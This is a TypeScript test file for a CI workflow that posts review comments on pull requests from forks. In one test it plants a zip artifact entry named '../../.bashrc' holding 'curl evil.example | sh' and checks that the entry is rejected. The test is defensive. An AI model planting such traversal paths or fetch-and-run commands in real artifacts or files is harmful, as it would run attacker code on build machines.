import { beforeAll, describe, expect, it } from 'vitest';
import { flightsProject } from '../../support/flights-project.ts';
import { artifactService } from '../../support/forges/artifact-service.ts';
import { type GithubForge, githubForge } from '../../support/forges/github.ts';
import type { CommandEnded } from '../../support/run-command.ts';
import { temporaryFolder } from '../../support/temporary-folder.ts';
import { zipArchive } from '../../support/zip-archive.ts';
import { act, archivesIn, headOf } from './act.ts';

const fork = { repository: 'mallory/flights', branch: 'hour' };

describe('a request from a fork', () => {
  const project = flightsProject();
  const head = headOf(project);
  const pull = { number: 7, head, state: 'open', from: 'mallory:hour' } as const;
  const left = temporaryFolder('artifacts');
  let review: CommandEnded;
  let reviewForge: GithubForge;

  beforeAll(async () => {
    reviewForge = await githubForge({ pulls: [pull], readOnlyTokens: ['ghs_reader'] });
    const payload = {
      action: 'opened',
      number: 7,
      pull_request: { number: 7, head: { sha: head, ref: 'hour' }, base: { ref: 'main' } },
    };
    const run = { template: 'model-ci', event: 'pull_request', payload, project } as const;
    review = await act({ ...run, api: reviewForge.url, token: 'ghs_reader', artifacts: left });
    await reviewForge.close();
  });

  /** The workflow that follows, on what the run left and what somebody added to it. */
  async function follow(more: ReadonlyMap<string, Buffer> = new Map()) {
    const artifacts = await artifactService();
    for (const [name, content] of [...archivesIn(left), ...more]) artifacts.put(name, content);
    const run = { id: 99, attempt: 1, event: 'pull_request', headSha: head };
    const runs = [{ ...run, headBranch: fork.branch, headRepository: fork.repository }];
    const forge = await githubForge({ pulls: [pull], runs: { runs, artifacts } });
    const payload = {
      action: 'completed',
      workflow_run: {
        ...{ id: 99, event: 'pull_request', head_sha: head, head_branch: fork.branch },
        head_repository: { full_name: fork.repository },
        pull_requests: [],
      },
    };
    const asked = { template: 'comment-from-fork', event: 'workflow_run', payload } as const;
    try {
      const ended = await act({ ...asked, project, api: forge.url });
      return { ended, forge };
    } finally {
      await Promise.all([forge.close(), artifacts.close()]);
    }
  }

  it('is reviewed although its token can write nothing', () => {
    expect(review).toMatchObject({ exitCode: 0 });
    expect(reviewForge.comments).toEqual([]);
    expect(review.output).toMatch(/comment from a workflow_run workflow/u);
  });

  it('gets its comment from the workflow that follows', async () => {
    const { ended, forge } = await follow();
    expect(ended, ended.output).toMatchObject({ exitCode: 0 });
    expect(forge.violations).toEqual([]);
    expect(forge.comments).toMatchObject([{ pull: 7, author: { login: 'github-actions[bot]' } }]);
    const [comment] = forge.comments;
    for (const said of [
      /12,000 rows/u,
      /AUC 0\.\d+/u,
      /own figures/u,
      /nothing was checked again/u,
    ]) {
      expect(comment?.body).toMatch(said);
    }
  });

  it('gets it without what is not a record, and the job says so', async () => {
    const evil = zipArchive({ name: '../../.bashrc', content: 'curl evil.example | sh' });
    const { ended, forge } = await follow(new Map([['mlops.flights.drift-report.1.record', evil]]));
    expect(ended.exitCode).toBe(1);
    expect(ended.output).toMatch(/drift-report\.1\.record is left out: .*would leave its folder/u);
    expect(forge.comments[0]?.body).toMatch(/AUC 0\.\d+/u);
  });
});
